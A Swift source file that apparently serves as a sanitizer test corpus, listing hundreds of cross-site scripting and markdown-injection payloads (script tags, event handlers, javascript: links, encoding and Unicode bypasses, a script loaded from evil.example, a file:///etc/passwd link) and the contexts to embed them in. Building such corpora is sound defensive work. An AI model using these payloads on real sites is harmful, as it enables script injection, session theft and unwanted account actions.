/// What people write who want their own HTML in a page: one payload for each line.
enum HostileMarkup {
    static let payloads =
        (elements + attributes + markdown + addresses).split(separator: "\n").map(String.init)
        + withLineBreaks

    /// Where a payload may stand.
    static let contexts: [@Sendable (String) -> String] = [
        { $0 }, { "Hello \($0) there" }, { "[\($0)](https://example.org)" }, { "[x](\($0))" }, { "[x](<\($0)>)" },
        { "[x](https://example.org/\($0))" }, { "[x](https://example.org \"\($0)\")" }, { "![\($0)](https://a/\($0))" },
        { "```\($0)\ncode\n```" }, { "```\n\($0)\n```" }, { "    \($0)" }, { "`\($0)`" }, { "@\($0)" }, { "@ann\($0)" },
        { "#\($0)" }, { "#garden\($0)" }, { "https://example.org/\($0)" }, { "<https://example.org/\($0)>" },
        { "mailto:a@b\($0)" }, { "> - **\($0)**" }, { "1. ~~*\($0)*~~\n   > \($0)" }, { "# \($0)" }, { "\($0)\n===" },
        { "<div>\n\($0)\n</div>" }, { "[x]: \($0)\n\n[x]" }, { "| \($0) | b |\n|---|---|\n| \($0) | d |" },
    ]

    private static let elements = #"""
        <script>alert(1)</script>
        <SCRIPT SRC=//evil.example/x.js></SCRIPT>
        <ScRiPt>alert(1)</sCrIpT>
        <script/src="data:,alert(1)">
        <script src=data:text/javascript,alert(1)></script>
        <scr<script>ipt>alert(1)</scr</script>ipt>
        <<script>alert(1)//<</script>
        <script >alert(1)</script >
        </script><script>alert(1)</script>
        --><script>alert(1)</script>
        ]]><script>alert(1)</script>
        </title><script>alert(1)</script>
        </textarea><script>alert(1)</script>
        </style><script>alert(1)</script>
        </p><script>alert(1)</script>
        </code></pre><script>alert(1)</script>
        </a><script>alert(1)</script>
        </blockquote></ul></ol><script>alert(1)</script>
        <img src=x onerror=alert(1)>
        <img src=x onerror="alert(1)"
        <img/src=`x`onerror=alert(1)>
        <img src="x" onerror='alert(1)'>
        <img """><script>alert(1)</script>">
        <img src=x:alert(alt) onerror=eval(src) alt=1>
        <img src onerror=/" '"/alert(1)//">
        <img srcset="x" onerror=alert(1)>
        <image src=x onerror=alert(1)>
        <svg onload=alert(1)>
        <svg/onload=alert(1)>
        <svg><script>alert&#40;1&#41;</script>
        <svg><script>alert&lpar;1&rpar;</script></svg>
        <svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
        <svg><animate onbegin=alert(1) attributeName=x dur=1s>
        <svg><set attributeName=href to=javascript:alert(1)>
        <svg><foreignObject><iframe src=javascript:alert(1)>
        <svg><style><img src=x onerror=alert(1)></style></svg>
        <svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"/>
        <math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
        <math href="javascript:alert(1)">x</math>
        <math><mi xlink:href="javascript:alert(1)">x</mi></math>
        <iframe src="javascript:alert(1)"></iframe>
        <iframe srcdoc="<script>alert(1)</script>"></iframe>
        <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
        <iframe/onload=alert(1)>
        <frameset onload=alert(1)>
        <object data="javascript:alert(1)"></object>
        <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
        <embed src="javascript:alert(1)">
        <embed code=evil.swf allowscriptaccess=always>
        <applet code=Evil.class></applet>
        <base href="javascript:alert(1)//">
        <base target=_blank>
        <link rel=stylesheet href=javascript:alert(1)>
        <link rel=import href=data:text/html,<script>alert(1)</script>>
        <meta http-equiv=refresh content="0;url=javascript:alert(1)">
        <meta http-equiv=Set-Cookie content="session_token=x">
        <meta charset=utf-7>
        +ADw-script+AD4-alert(1)+ADw-/script+AD4-
        <style>@import'javascript:alert(1)';</style>
        <style>body{background:url(javascript:alert(1))}</style>
        <style>*{x:expression(alert(1))}</style>
        <style onload=alert(1)>
        <body onload=alert(1)>
        <body background=javascript:alert(1)>
        <html onmouseover=alert(1)>
        <form action=javascript:alert(1)><input type=submit>
        <form><button formaction=javascript:alert(1)>x
        <form action=/profile/delete method=post><input name=password>
        <input onfocus=alert(1) autofocus>
        <input type=image src=x onerror=alert(1)>
        <select onfocus=alert(1) autofocus>
        <textarea onfocus=alert(1) autofocus>
        <keygen onfocus=alert(1) autofocus>
        <button onclick=alert(1)>x</button>
        <isindex action=javascript:alert(1)>
        <video src=x onerror=alert(1)>
        <video><source onerror=alert(1)>
        <video poster=javascript:alert(1)//>
        <audio src=x onerror=alert(1)>
        <details open ontoggle=alert(1)>
        <dialog open onclose=alert(1)>
        <marquee onstart=alert(1)>
        <bgsound src=javascript:alert(1)>
        <table background=javascript:alert(1)>
        <td background=javascript:alert(1)>
        <div style="background-image:url(javascript:alert(1))">
        <div style="width:expression(alert(1))">
        <div style="position:fixed;inset:0">over all</div>
        <x onclick=alert(1) tabindex=1>x
        <x contenteditable onblur=alert(1)>x</x>
        <custom-element onfocus=alert(1) tabindex=0 autofocus>
        <noscript><p title="</noscript><img src=x onerror=alert(1)>">
        <template><script>alert(1)</script></template>
        <xmp><p title="</xmp><svg/onload=alert(1)>">
        <plaintext>
        <listing><img onerror=alert(1) src=x></listing>
        <noembed><img title="</noembed><img onerror=alert(1) src=x>"></noembed>
        <!--<img src="--><img src=x onerror=alert(1)//">
        <!--><img src=x onerror=alert(1)>-->
        <!-- --!><script>alert(1)</script>
        <![CDATA[<script>alert(1)</script>]]>
        <!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
        <?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
        <?php echo "x"; ?>
        <% alert(1) %>
        <a href="javascript:alert(1)">x</a>
        <a href=javascript:alert(1)>x
        <a href="jav&#x09;ascript:alert(1)">x</a>
        <a href="&#106;avascript:alert(1)">x</a>
        <a href="https://evil.example" rel="opener" target="_blank">x</a>
        <a onmouseover=alert(1)>x</a>
        <a ping=https://evil.example href=/>x</a>
        <area href=javascript:alert(1)>
        <b onmouseover=alert(1)>x</b>
        <p dir="auto" onclick="alert(1)">x</p>
        <br onload=alert(1)>
        <hr style=x>
        <
        <a
        </
        <!
        <?
        >
        "
        '
        &
        """#

    private static let attributes = #"""
        "><script>alert(1)</script>
        '><script>alert(1)</script>
        ` onerror=alert(1) `
        " onmouseover="alert(1)
        ' onmouseover='alert(1)
        "onclick=alert(1)//
        " autofocus onfocus=alert(1) x="
        " style="background:url(x)
        "/><img src=x onerror=alert(1)>
        &quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
        &#34;&#62;&#60;script&#62;
        &#x22;&#x3e;&#x3c;script&#x3e;
        &#0000060script&#0000062alert(1)
        &lt;script&gt;alert(1)&lt;/script&gt;
        &amp;lt;script&amp;gt;
        &LT;script&GT;
        &nbsp;&lt
        &#60;&#x3C;&#0;&#xD800;&#x110000;
        %3Cscript%3Ealert(1)%3C/script%3E
        \x3cscript\x3ealert(1)
        \u003cscript\u003e
        \<script\>alert(1)
        ＜script＞alert(1)＜/script＞
        ‹script›
        {{ username }}{% include "layout.html" %}
        {{constructor.constructor('alert(1)')()}}
        ${alert(1)}
        <%= x %>#{x}
        [[x]]((x))
        language-" onload="alert(1)
        swift" onclick="alert(1)
        js><script>alert(1)</script>
        js&quot;onclick=alert(1)
        ann" onclick="alert(1)
        ann/../../logout
        ann?x=<b>
        ../profile/delete
        garden"><b>
        """#

    private static let markdown = #"""
        [x](javascript:alert(1))
        [x](JaVaScRiPt:alert(1))
        [x]( javascript:alert(1))
        [x](<javascript:alert(1)>)
        [x](javascript&colon;alert(1))
        [x](javascript&#58;alert(1))
        [x](&#106;&#97;&#118;&#97;script:alert(1))
        [x](java&Tab;script:alert(1))
        [x](java&NewLine;script:alert(1))
        [x](\javascript:alert(1))
        [x](javascript\:alert(1))
        [x](vbscript:msgbox(1))
        [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
        [x](data:text/html,<script>alert(1)</script>)
        [x](https://a"onmouseover="alert(1))
        [x](https://a'onmouseover='alert(1))
        [x](<https://a" onmouseover="alert(1)>)
        [x](https://a "title" onmouseover=alert(1))
        [x](https://a 'x"onmouseover="alert(1)')
        [x](https://a "x\"><script>alert(1)</script>")
        [x](https://a`b)
        [x](https://a\"b)
        [x](//evil.example)
        [x](/logout)
        [x](#x)
        [x]()
        ["><script>alert(1)</script>](https://a)
        [<img src=x onerror=alert(1)>](https://a)
        [![x](javascript:alert(1))](https://a)
        [[x](javascript:alert(1))](https://a)
        [x [y](https://b) z](https://a)
        [@ann](https://a)
        [https://b](https://a)
        [x](https://a)[y](javascript:alert(1))
        ![x](javascript:alert(1))
        ![x" onerror="alert(1)](https://a)
        ![x](https://a"onerror="alert(1))
        ![x](https://a "x' onerror='alert(1)")
        ![](x:y)![](https://a)
        [x]: javascript:alert(1)
        [x]: <https://a> "x"onmouseover=alert(1)
        [^x]: <script>alert(1)</script>
        [x][y]<script>
        <javascript:alert(1)>
        <https://a"onmouseover="alert(1)>
        <https://a'><script>alert(1)</script>
        <https://a onmouseover=alert(1)>
        <https://a<script>alert(1)</script>>
        <mailto:a@b"onclick="alert(1)>
        <a@b.example>
        `<script>alert(1)</script>`
        `` ` `` <b> ``</code><script>``
        **<b>** __"__ ~~&~~
        *<script>*alert(1)*</script>*
        | <b> | "x" |
        - <script>alert(1)</script>
        1. <script>alert(1)</script>
        > <script>alert(1)</script>
        # <script>alert(1)</script>
        ```<script>
        ~~~" onclick="alert(1)
        """#

    private static let addresses = #"""
        https://a"onmouseover="alert(1)
        https://a'onmouseover='alert(1)
        https://a<script>alert(1)</script>
        https://a/?x=<b>&y="z"&amp;&lt;
        https://a/`onmouseover=alert(1)
        https://a\"onclick=alert(1)
        https://a&quot;onmouseover=alert(1)
        https://user:password@evil.example/
        HTTPS://A/JAVASCRIPT:alert(1)
        https:javascript:alert(1)
        https:/javascript:alert(1)
        https://javascript:alert(1)
        http://a)<b>(
        mailto:a@b?subject=<b>"&body='
        javascript:alert(1)
        javascript://https://a/%0aalert(1)
        JAVASCRIPT:alert(1)//https://a
        data:text/html,https://a
        feed:javascript:alert(1)
        view-source:https://a
        blob:https://a/x
        file:///etc/passwd
        @ann"onclick="alert(1)
        @ann<script>
        @<script>alert(1)</script>
        @ann&quot;
        #garden"onclick="alert(1)
        #<script>
        #garden<b>
        """#

    /// Also characters that hide others, and those with which markup is hidden from the parser.
    private static let withLineBreaks = [
        "<img\nsrc=x\nonerror=alert(1)\n>", "<script\n>alert(1)</script\n>", "<a\thref=javascript:alert(1)>",
        "<\nscript>",
        "[x](java\nscript:alert(1))", "[x](java\tscript:alert(1))", "[x](\u{1}javascript:alert(1))",
        "[x\n](javascript:y)",
        "[x](java\0script:alert(1))", "<scr\0ipt>alert(1)</scr\0ipt>", "<\0script>", "[x](java\u{AD}script:alert(1))",
        "[x](\u{FEFF}javascript:alert(1))", "<\u{301}script>", "\"\u{301}><script>", "<script\u{2028}>", "\u{202E}<b>",
        "[\u{202E}x](https://a/\u{202E}b)", "https://a/\u{202E}b", "https://a\u{2028}<b>",
        "```\n</code></pre><script>\n```",
        "```js\"><script>\nx\n```", "```\n\0<b>\n```", "    </code><script>", "<div>\n\n**<script>**\n\n</div>",
        "> <b>\n> - \"\n>   ```\n>   </pre>", "a\r<b>\r\n<c>", "[x]:\n javascript:alert(1)\n\n[x]", "<!--\n<b>\n-->",
        noncharacter(0x90) + "script>", noncharacter(0x91) + "lt;", "[x](https://a" + noncharacter(0x90) + "b)",
        "[x](java" + noncharacter(0x93) + "script:y)", "<a href=\"" + String(repeating: "a", count: 5_000) + "\">",
        String(repeating: "<b>", count: 3_000), String(repeating: "[", count: 9_000) + "<b>",
        String(repeating: "> ", count: 500) + "<b>", String(repeating: "é", count: 20_000) + "<script>\"&",
    ]

    private static func noncharacter(_ last: UInt8) -> String {
        String(decoding: [0xEF, 0xB7, last], as: UTF8.self)
    }
}
